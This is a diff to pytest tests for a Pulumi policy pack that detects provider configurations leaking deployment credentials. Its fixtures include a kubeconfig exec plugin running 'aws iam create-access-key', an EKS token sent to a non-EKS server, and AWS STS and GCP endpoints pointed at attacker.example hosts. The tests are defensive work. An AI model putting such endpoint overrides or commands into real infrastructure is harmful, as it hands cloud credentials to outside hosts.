@@ -105,7 +105,7 @@ def test_a_default_aws_provider_reading_the_changes_config_file_fails(tmp_path):
 
 KUBECONFIG = """apiVersion: v1
 kind: Config
-clusters: [{{name: c, cluster: {{server: https://k8s.example.internal}}}}]
+clusters: [{{name: c, cluster: {{server: {server}}}}}]
 contexts: [{{name: ctx, context: {{cluster: c, user: u, namespace: agents}}}}]
 current-context: ctx
 users:
@@ -115,16 +115,22 @@ users:
 """
 
 
-@pytest.mark.parametrize(("command", "args", "expected"), [
-    ("sh", '["-c", "aws iam create-access-key --user-name ci-helper"]', (1, [("AGID-PRV-002", "kc")])),
-    ("aws", '["--region", "eu-west-1", "eks", "get-token", "--cluster-name", "prod"]', (0, [])),
+EKS_SERVER = "https://ABCDEF0123456789.gr7.eu-west-1.eks.amazonaws.com"
+
+
+@pytest.mark.parametrize(("command", "args", "server", "expected"), [
+    ("sh", '["-c", "aws iam create-access-key --user-name ci-helper"]', EKS_SERVER, (1, [("AGID-PRV-002", "kc")])),
+    ("aws", '["--region", "eu-west-1", "eks", "get-token", "--cluster-name", "prod"]', EKS_SERVER, (0, [])),
+    # the vendor's plugin, but its EKS token goes to a server that is no EKS endpoint (AGID-PRV-003)
+    ("aws", '["eks", "get-token", "--cluster-name", "prod"]', "https://k8s.example.internal",
+     (1, [("AGID-PRV-003", "kc")])),
 ])
-def test_a_kubeconfig_exec_plugin_fails_unless_it_is_the_vendors_token_plugin(tmp_path, command, args, expected):
+def test_a_kubeconfig_exec_plugin_fails_unless_it_is_the_vendors_token_plugin(tmp_path, command, args, server, expected):
     program = ("import pulumi, pulumi_kubernetes as k8s\n"
-               f"p = k8s.Provider('kc', kubeconfig={KUBECONFIG.format(command=command, args=args)!r})\n"
+               f"p = k8s.Provider('kc', kubeconfig={KUBECONFIG.format(command=command, args=args, server=server)!r})\n"
                "k8s.core.v1.ConfigMap('cm', metadata={'name': 'cm', 'namespace': 'agents'}, data={'a': 'b'},\n"
                "                      opts=pulumi.ResourceOptions(provider=p))\n")
-    code, violations, _ = preview(tmp_path / command, program)
+    code, violations, _ = preview(tmp_path / "kc", program)
     assert (code, mandatory(violations)) == expected
 
 
@@ -159,3 +165,26 @@ def test_a_stack_of_only_a_credential_invoke_fails_instead_of_no_verdict(tmp_pat
     run = run_cli(directory, "--stack", "dev", "--policy-pack", str(AGENT_GUARD), "--json", "out.json")
     assert run.code == 2, run.stdout + run.stderr
     assert json.loads((directory / "out.json").read_text())["error"]["kind"] == "nothing-judged"
+
+
+# --- provider endpoints (prov20's gap): the deployer's credentials sent to another host ---
+
+def test_a_default_aws_provider_whose_sts_endpoint_is_another_host_fails_and_a_regional_one_passes(tmp_path):
+    code, violations, _ = preview(tmp_path / "sts", "import pulumi_aws as aws\n" + BUCKET,
+                                  '  aws:endpoints:\n    - sts: https://sts.attacker.example\n')
+    assert (code, mandatory(violations)) == (1, [("AGID-PRV-003", "default")])
+    [found] = [v for v in violations if v["policy"] == "AGID-PRV-003"]
+    assert (found["file"], found["line"]) == ("Pulumi.dev.yaml", 3)
+    assert "endpoints.sts 'https://sts.attacker.example' is on sts.attacker.example, not a host of AWS" in found["message"]
+    code, violations, _ = preview(tmp_path / "regional", "import pulumi_aws as aws\n" + BUCKET,
+                                  '  aws:endpoints:\n    - sts: https://sts.eu-west-1.amazonaws.com\n')
+    assert (code, mandatory(violations)) == (0, [])
+
+
+def test_an_explicit_gcp_provider_with_a_foreign_universe_fails(tmp_path):
+    program = ("import pulumi, pulumi_gcp as gcp\n"
+               "p = gcp.Provider('elsewhere', project='acme-prod', universe_domain='apis.attacker.example')\n"
+               "gcp.storage.Bucket('drop', name='acme-drop', location='EU', uniform_bucket_level_access=True,\n"
+               "                   labels={'owner': 'data-team'}, opts=pulumi.ResourceOptions(provider=p))\n")
+    code, violations, _ = preview(tmp_path / "universe", program)
+    assert (code, mandatory(violations)) == (1, [("AGID-PRV-003", "elsewhere")])
